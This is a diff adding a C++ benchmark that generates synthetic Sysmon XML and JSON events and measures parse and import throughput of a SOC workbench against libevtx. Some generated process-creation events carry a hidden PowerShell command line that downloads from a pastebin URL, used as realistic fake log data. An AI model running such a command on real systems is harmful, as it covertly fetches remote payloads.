@@ -1,0 +1,247 @@
+// Sysmon import benchmark: generates Sysmon events as wevtutil-style XML and as NXLog-style JSON
+// lines, then measures (median of 3) the parser alone in this process and a whole
+// `socwb-cli import` (process graph, indexes, attribution) with its peak RSS. EVTX cannot be
+// generated here, so the largest real .evtx in ../shared/data is parsed and compared with
+// libevtx's own `evtxexport -f xml` on the same file, the reference for "as fast as libevtx allows".
+#include "bench_support.h"
+#include "ingest/format_registry.h"
+
+#include <QCoreApplication>
+#include <QDir>
+#include <QElapsedTimer>
+#include <QFileInfo>
+#include <QTemporaryDir>
+
+#include <algorithm>
+#include <cstdio>
+#include <fstream>
+#include <string>
+#include <vector>
+
+using namespace socwb;
+
+namespace {
+
+struct CountingSink : RecordSink {
+    int64_t events = 0, rejects = 0;
+    void proxy(const ProxyRecord&) override {}
+    void dns(const DnsRecord&) override {}
+    void asset(const AssetRecord&) override {}
+    void sysmon(const SysmonRecord&) override { ++events; }
+    void reject(SourcePos, std::string_view, std::string_view) override { ++rejects; }
+};
+
+struct Field {
+    std::string name, value;
+};
+
+// The data fields of event i: a realistic mix of EID 3 (40 %), 22 (30 %), 11 (20 %) and 1 (10 %).
+int eventFields(int i, std::vector<Field>& f, std::string& computer, std::string& utc) {
+    f.clear();
+    const int host = i % 50;
+    const int proc = (i / 7) % 2000;
+    char guid[64], buf[64];
+    std::snprintf(guid, sizeof guid, "{4d8c1a2b-%04x-65e1-0000-0010%08x}", host, proc);
+    computer = "WS-" + std::to_string(host) + ".corp.example";
+    const int64_t ms = int64_t(i) * 37;
+    std::snprintf(buf, sizeof buf, "2024-03-%02d %02d:%02d:%02d.%03d", 1 + int(ms / 86400000), int(ms / 3600000 % 24),
+                  int(ms / 60000 % 60), int(ms / 1000 % 60), int(ms % 1000));
+    utc = buf;
+    const std::string image = proc % 3 ? R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)"
+                                       : R"(C:\Program Files\Google\Chrome\Application\chrome.exe)";
+    f.push_back({"RuleName", "-"});
+    f.push_back({"UtcTime", utc});
+    f.push_back({"ProcessGuid", guid});
+    f.push_back({"ProcessId", std::to_string(1000 + proc)});
+    const int kind = i % 10;
+    if (kind < 4) {
+        f.push_back({"Image", image});
+        f.push_back({"User", R"(CORP\alice)"});
+        f.push_back({"Protocol", "tcp"});
+        f.push_back({"Initiated", "true"});
+        f.push_back({"SourceIsIpv6", "false"});
+        f.push_back({"SourceIp", "10.1." + std::to_string(host) + ".7"});
+        f.push_back({"SourceHostname", computer});
+        f.push_back({"SourcePort", std::to_string(49152 + i % 16000)});
+        f.push_back({"SourcePortName", "-"});
+        f.push_back({"DestinationIsIpv6", "false"});
+        f.push_back({"DestinationIp", "151.101." + std::to_string(i % 200) + ".133"});
+        f.push_back({"DestinationHostname", "-"});
+        f.push_back({"DestinationPort", "443"});
+        f.push_back({"DestinationPortName", "https"});
+        return 3;
+    }
+    if (kind < 7) {
+        f.push_back({"QueryName", "cdn" + std::to_string(i % 300) + ".example.com"});
+        f.push_back({"QueryStatus", "0"});
+        f.push_back({"QueryResults", "type:  5 edge.example.net;::ffff:151.101." + std::to_string(i % 200) + ".133;"});
+        f.push_back({"Image", image});
+        f.push_back({"User", R"(CORP\alice)"});
+        return 22;
+    }
+    if (kind < 9) {
+        f.push_back({"Image", image});
+        f.push_back({"TargetFilename", R"(C:\Users\alice\AppData\Local\Temp\tmp)" + std::to_string(i) + ".txt"});
+        f.push_back({"CreationUtcTime", utc});
+        f.push_back({"User", R"(CORP\alice)"});
+        return 11;
+    }
+    f.push_back({"FileVersion", "10.0.19041.1"});
+    f.push_back({"Description", "Windows PowerShell"});
+    f.push_back({"Product", "Microsoft Windows Operating System"});
+    f.push_back({"Company", "Microsoft Corporation"});
+    f.push_back({"OriginalFileName", "PowerShell.EXE"});
+    f.push_back({"Image", image});
+    f.push_back({"CommandLine", "powershell.exe -nop -w hidden -c \"iwr https://pastebin.com/raw/" + std::to_string(i) + "\""});
+    f.push_back({"CurrentDirectory", R"(C:\Users\alice\)"});
+    f.push_back({"User", R"(CORP\alice)"});
+    f.push_back({"LogonGuid", "{4d8c1a2b-0000-65e1-0000-0020e8030000}"});
+    f.push_back({"LogonId", "0x3e8"});
+    f.push_back({"TerminalSessionId", "1"});
+    f.push_back({"IntegrityLevel", "Medium"});
+    f.push_back({"Hashes", "SHA256=9E57914D39FBFE785C915E225011892613C4714C9E57914D39FBFE785C915E22,IMPHASH=B6789EDFE23DDA911AE37C87444D3DCB"});
+    f.push_back({"ParentProcessGuid", "{4d8c1a2b-0000-65e1-0000-001000000001}"});
+    f.push_back({"ParentProcessId", "900"});
+    f.push_back({"ParentImage", R"(C:\Windows\explorer.exe)"});
+    f.push_back({"ParentCommandLine", R"(C:\Windows\Explorer.EXE)"});
+    return 1;
+}
+
+std::string jsonEscape(const std::string& s) {
+    std::string o;
+    for (char c : s) {
+        if (c == '"' || c == '\\') {
+            o.push_back('\\');
+        }
+        o.push_back(c);
+    }
+    return o;
+}
+
+std::string xmlEscape(const std::string& s) {
+    std::string o;
+    for (char c : s) {
+        if (c == '&') {
+            o += "&amp;";
+        } else if (c == '<') {
+            o += "&lt;";
+        } else if (c == '"') {
+            o += "&quot;";
+        } else {
+            o.push_back(c);
+        }
+    }
+    return o;
+}
+
+void generate(const std::string& xmlPath, const std::string& jsonPath, int n) {
+    std::ofstream xml(xmlPath), json(jsonPath);
+    std::vector<Field> f;
+    std::string computer, utc, iso;
+    for (int i = 0; i < n; ++i) {
+        const int id = eventFields(i, f, computer, utc);
+        iso = utc;
+        iso[10] = 'T';
+        xml << "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System><Provider "
+               "Name=\"Microsoft-Windows-Sysmon\" Guid=\"{5770385f-c22a-43e0-bf4c-06f5698ffbd9}\"/><EventID>"
+            << id << "</EventID><Version>5</Version><Level>4</Level><Task>" << id
+            << "</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime=\"" << iso
+            << "0000Z\"/><EventRecordID>" << i + 1 << "</EventRecordID><Correlation/><Execution ProcessID=\"2780\" "
+               "ThreadID=\"3676\"/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>"
+            << computer << "</Computer><Security UserID=\"S-1-5-18\"/></System><EventData>";
+        for (const Field& x : f) {
+            xml << "<Data Name=\"" << x.name << "\">" << xmlEscape(x.value) << "</Data>";
+        }
+        xml << "</EventData></Event>";
+        json << "{\"EventTime\":\"" << utc.substr(0, 19) << "\",\"Hostname\":\"" << computer
+             << "\",\"Keywords\":-9223372036854775808,\"EventType\":\"INFO\",\"SeverityValue\":2,\"Severity\":\"INFO\","
+                "\"EventID\":"
+             << id << ",\"SourceName\":\"Microsoft-Windows-Sysmon\",\"ProviderGuid\":\"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}\","
+                      "\"Version\":5,\"Task\":" << id << ",\"OpcodeValue\":0,\"RecordNumber\":" << i + 1
+             << ",\"ExecutionProcessID\":2780,\"ExecutionThreadID\":3676,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
+                "\"Domain\":\"NT AUTHORITY\",\"AccountName\":\"SYSTEM\",\"UserID\":\"S-1-5-18\",\"AccountType\":\"User\"";
+        for (const Field& x : f) {
+            json << ",\"" << x.name << "\":\"" << jsonEscape(x.value) << "\"";
+        }
+        json << "}\n";
+        if (i % 1000 == 999) {
+            xml << "\n"; // wevtutil writes long lines; break them now and then like an editor would not
+        }
+    }
+}
+
+double medianOf(std::vector<double> v) {
+    std::sort(v.begin(), v.end());
+    return v[v.size() / 2];
+}
+
+// Events per second for the parser alone, median of 3 (and the count, for checking).
+double parseRate(const char* format, const QString& path, int repeat, int64_t& events) {
+    const FormatInfo* f = findFormat(QString::fromLatin1(format));
+    std::vector<double> rates;
+    for (int run = 0; run < 3; ++run) {
+        QElapsedTimer t;
+        t.start();
+        CountingSink sink;
+        for (int r = 0; r < repeat; ++r) {
+            auto parser = f->create(ParserOptions{});
+            InputReader in(path);
+            parser->parse(in, sink, {});
+        }
+        rates.push_back(double(sink.events) / (double(t.nsecsElapsed()) / 1e9));
+        events = sink.events / repeat;
+        if (sink.rejects) {
+            std::printf("  !! %lld rejects\n", static_cast<long long>(sink.rejects));
+        }
+    }
+    return medianOf(rates);
+}
+
+} // namespace
+
+int main(int argc, char** argv) {
+    QCoreApplication app(argc, argv);
+    const int n = argc > 1 ? std::atoi(argv[1]) : 200000;
+    QTemporaryDir dir;
+    const std::string xml = dir.filePath(QStringLiteral("events.xml")).toStdString();
+    const std::string json = dir.filePath(QStringLiteral("events.json")).toStdString();
+    std::printf("bench_sysmon: %d generated Sysmon events (40%% EID 3, 30%% EID 22, 20%% EID 11, 10%% EID 1), "
+                "2 cores, median of 3\n", n);
+    generate(xml, json, n);
+    for (const auto& [format, path] : {std::pair{"sysmon-xml", xml}, std::pair{"sysmon-json", json}}) {
+        const QString qpath = QString::fromStdString(path);
+        const double mb = double(QFileInfo(qpath).size()) / 1e6;
+        int64_t events = 0;
+        const double parse = parseRate(format, qpath, 1, events);
+        std::vector<bench::Measure> imports;
+        for (int run = 0; run < 3; ++run) {
+            const std::string c = dir.filePath(QStringLiteral("case%1.socwb").arg(run)).toStdString();
+            imports.push_back(bench::runChild({SOCWB_CLI_PATH, "import", c, path, "--format", format}));
+            QFile::remove(QString::fromStdString(c));
+        }
+        const bench::Measure m = bench::median(imports);
+        std::printf("%-12s %7.1f MB  parse only: %9.0f events/s  (%lld events)   full import: %9.0f events/s, "
+                    "peak RSS %ld MB, exit %d   goal >= 150000 events/s\n",
+                    format, mb, parse, static_cast<long long>(events), double(events) / m.seconds, m.maxRssKb / 1024,
+                    m.exitCode);
+    }
+    const QString evtx = QStringLiteral(SOCWB_SOURCE_DIR "/../shared/data/sysmon/evtx/bits_openvpn.evtx");
+    if (!QFileInfo::exists(evtx)) {
+        std::printf("evtx: ../shared/data is absent, no real .evtx to measure\n");
+        return 0;
+    }
+    int64_t events = 0;
+    const int repeat = 20;
+    const double parse = parseRate("evtx", evtx, repeat, events);
+    std::vector<bench::Measure> ref;
+    for (int run = 0; run < 3; ++run) {
+        ref.push_back(bench::runChild({"/bin/sh", "-c", "for i in $(seq " + std::to_string(repeat) +
+                                                            "); do evtxexport -f xml '" + evtx.toStdString() +
+                                                            "' >/dev/null; done"}));
+    }
+    const bench::Measure m = bench::median(ref);
+    std::printf("%-12s bits_openvpn.evtx x%d (%lld records): socwb %9.0f events/s   reference evtxexport -f xml: "
+                "%9.0f records/s\n",
+                "evtx", repeat, static_cast<long long>(events), parse, double(events) * repeat / m.seconds);
+    return 0;
+}
